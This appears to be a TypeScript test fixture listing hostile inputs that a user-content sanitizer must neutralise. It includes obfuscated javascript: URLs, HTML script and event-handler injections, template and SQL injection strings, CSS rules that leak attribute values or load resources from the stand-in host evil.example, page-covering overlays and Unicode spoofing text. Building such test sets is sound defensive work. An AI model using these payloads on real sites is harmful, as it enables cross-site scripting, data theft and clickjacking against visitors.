/** What somebody might store in their own account to reach their visitors. `evil.example` is asked for by nothing; `attacked()` would be our defeat. */

const HOST = "//evil.example";
const CALL = "attacked()";

/** Addresses that run something, or lead elsewhere than they say; none may become a link. */
export const URL_ATTACKS: readonly string[] = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `  javascript:${CALL}`, `\u0001javascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, `java\r\nscript:${CALL}`,
  `javascript\t:${CALL}`, `javascript&colon;${CALL}`, `&#106;avascript:${CALL}`, `&#x6A;avascript:${CALL}`, `%6Aavascript:${CALL}`, `javascript%3A${CALL}`, `\\x6Aavascript:${CALL}`,
  `javascript://example.com/%0A${CALL}`, `javascript:/*https://*/${CALL}`, `javascript:void(${CALL})`, `javascript:'<script>${CALL}</script>'`, `\u00A0javascript:${CALL}`, `\uFEFFjavascript:${CALL}`,
  `\u200Bjavascript:${CALL}`, `\u202Ejavascript:${CALL}`, `jav\u0000ascript:${CALL}`, `livescript:${CALL}`, `mocha:${CALL}`, `vbscript:msgbox(1)`, `VBScript:x`, `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+`, `data:image/svg+xml,<svg onload=${CALL}>`, `DATA:text/html,x`, `blob:https://example.com/1`, `filesystem:https://example.com/x`, `file:///etc/passwd`,
  `view-source:https://example.com`, `about:blank`, `chrome://settings`, `ms-settings:`, `intent://x#Intent;scheme=javascript;end`, `feed:javascript:${CALL}`, `jar:https://example.com!/x`, `ws://evil.example`, `ftp://evil.example/x`,
  `${HOST}/x`, `\\\\evil.example`, `/\\evil.example`, `https:evil.example`, `https:\\\\evil.example`, `https:///evil.example`, `http://`, `https://?x`, `//`, `#`, `?x=1`, `/login`, `.`, ``,
  `https://example.com/\nSet-Cookie:x`, `https://example .com`, `https://exa\tmple.com`, `mailto:`, `tel:`, `" onclick="${CALL}`, `'><img src=x onerror=${CALL}>`,
];

/** Texts for every field that takes one. */
export const TEXT_ATTACKS: readonly string[] = [
  `<script>${CALL}</script>`, `</script><script>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script src=${HOST}/x.js></script>`, `<<script>${CALL}//<</script>`, `<script\n>${CALL}</script\n>`,
  `<img src=x onerror=${CALL}>`, `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`, `<img src="${HOST}/x.png">`, `<img/src/onerror=${CALL}>`, `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x>`, `<svg><use href="data:image/svg+xml,x#x">`, `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`, `<iframe src="javascript:${CALL}"></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<object data="javascript:${CALL}">`, `<embed src="${HOST}/x.swf">`, `<link rel=stylesheet href=${HOST}/x.css>`, `<link rel=prefetch href=${HOST}/x>`, `<style>@import url(${HOST}/x.css);</style>`, `</style><script>${CALL}</script>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`, `<base href=${HOST}/>`, `<form action=${HOST}><input autofocus onfocus=${CALL}>`, `<body onload=${CALL}>`, `<details open ontoggle=${CALL}>`, `<video><source onerror=${CALL}></video>`,
  `<marquee onstart=${CALL}>`, `<a href="javascript:${CALL}">x</a>`, `<x onclick=${CALL}>x`, `" onmouseover="${CALL}" x="`, `' autofocus onfocus='${CALL}`, "` onerror=`attacked()", `</title><script>${CALL}</script>`, `</h1></main><h1>User Not Found</h1>`,
  `<!--`, `-->`, `<!--<script>`, `]]>`, `<![CDATA[<script>${CALL}</script>]]>`, `<?xml version="1.0"?>`, `<template><script>${CALL}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<textarea><script>${CALL}</script>`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}`, `\\u003cscript\\u003e${CALL}`, `%3Cscript%3E${CALL}`, `+ADw-script+AD4-${CALL}`, `","@type":"Evil","x":"`, `\\"}</script><script>${CALL}</script>`,
  `\${${CALL}}`, `{{constructor.constructor('${CALL}')()}}`, `<%= ${CALL} %>`, `__proto__`, `constructor`, `javascript:${CALL}`, `'; DROP TABLE item; --`, `\u2028${CALL}\u2029x`,
  `Mira\u202Egpj.exe`, `\u202E\u2066reversed\u2069`, `\u2067מירה\u2069 @admin`, `Mi\u200Bra`, `Mira\u200D\u200D\u200D`, `\uFEFFMira`, `Mіrа`, `Mira\u2060`, `M${"\u0301".repeat(60)}`, `${"\u200F".repeat(20)}x`, `\u{E0041}\u{E0042}x`,
];

/** Style sheets. What an owner hides of their own is theirs; nothing may be loaded, run, told to others, or laid over the page. */
export const CSS_ATTACKS: readonly string[] = [
  `</style><script>${CALL}</script>`, `a{color:red}</style><img src=x onerror=${CALL}>`, `<!-- </style><svg onload=${CALL}> -->`, `a::before{content:"</style><script>${CALL}</script>"}`, `/* </style><script>${CALL}</script> */`,
  `@import "${HOST}/x.css";`, `@import url(${HOST}/x.css);`, `@\\69mport "${HOST}/x.css";`, `@charset "x"; @import "${HOST}/x.css";`, `@namespace svg url(${HOST}/x);`, `@font-face{font-family:x;src:url(${HOST}/x.woff2)}*{font-family:x}`,
  `*{background:url(${HOST}/x.png)}`, `*{background:\\75rl(${HOST}/x.png)}`, `*{background:u\\72l("${HOST}/x.png")}`, `*{background:URL(${HOST}/x.png)}`, `*{background:url( "${HOST}/x.png" )}`, `*{background:/**/url(${HOST}/x.png)}`,
  `*{background-image:image-set("${HOST}/x.png" 1x)}`, `*{background-image:-webkit-image-set(url(${HOST}/x.png) 1x)}`, `*{background:src("${HOST}/x.png")}`, `*{background:image("${HOST}/x.png")}`, `*{background:cross-fade(url(${HOST}/x.png),red,50%)}`,
  `*{--x:url(${HOST}/x.png);background:var(--x)}`, `*{list-style:url(${HOST}/x.png)}`, `*{cursor:url(${HOST}/x.cur),auto}`, `a::after{content:url(${HOST}/x.png)}`, `*{border-image:url(${HOST}/x.png) 1}`, `*{mask:url(${HOST}/x.svg#m)}`, `*{filter:url(${HOST}/x.svg#f)}`,
  `*{clip-path:url(${HOST}/x.svg#c)}`, `*{shape-outside:url(${HOST}/x.png)}`, `*{offset-path:url(${HOST}/x.svg#p)}`, `a[href^="h"]{background:url(${HOST}/?h)}`, `input[value^="a"]{background:url(${HOST}/?a)}`, `a::after{content:attr(href);background:url(${HOST}/x)}`,
  `a{width:attr(data-x px);background:image-set(attr(href type(<url>)))}`, `*{behavior:url(${HOST}/x.htc)}`, `*{-moz-binding:url(${HOST}/x.xml#x)}`, `*{width:expression(${CALL})}`, `@media all{@import "${HOST}/x.css";*{background:url(${HOST}/x.png)}}`, `@supports (display:block){*{background:url(${HOST}/x.png)}}`,
  `@layer x{*{background:url(${HOST}/x.png)}}`, `@keyframes x{to{background:url(${HOST}/x.png)}}*{animation:x 1s}`, `a{&:hover,&{background:url(${HOST}/x.png)}}`, `@property --x{syntax:"<url>";inherits:true;initial-value:url(${HOST}/x.png)}*{background:var(--x)}`,
  `.shelv-who{position:fixed;inset:0;z-index:99;background:red}`, `.shelv-credit{position:fixed!important;inset:0;z-index:99}`, `.shelv-who{position:\\66ixed;inset:0;z-index:99}`, `.shelv-who{--p:fixed;position:var(--p);inset:0;z-index:99}`, `.shelv-who{position:absolute;inset:0;z-index:99}`,
  `.shelv-page::after{content:"";position:absolute;inset:0;z-index:9999;background:red}`, `.shelv-name{position:relative;z-index:999;width:3000px;height:5000px;margin:-1000px;background:red}`, `.shelv-who{transform:scale(99);background:red}`, `.shelv-shelf-name{position:relative;z-index:999;height:5000px;margin-bottom:-4990px;background:red}`, `.shelv-footer{margin-top:-900px}.shelv-shelves{margin-bottom:-900px}.shelv-credit{color:transparent}`,
  `.shelv-page::before{content:"";position:absolute;inset:0;z-index:99}`, `.shelv-credit::after{content:"";position:absolute;inset:-9999px;z-index:99;pointer-events:auto!important}`, `.shelv-footer{display:none!important}.shelv-credit{visibility:hidden!important;opacity:0!important}`, `.shelv-who{position:sticky;top:0;height:100vh;z-index:99}`, `}}}}*{background:url(${HOST}/x.png)}`, `{{{{`, `"`, `\\`, `/*`, `@`, `:root{--x:`, `a{color:red;;;}}b{`,
];
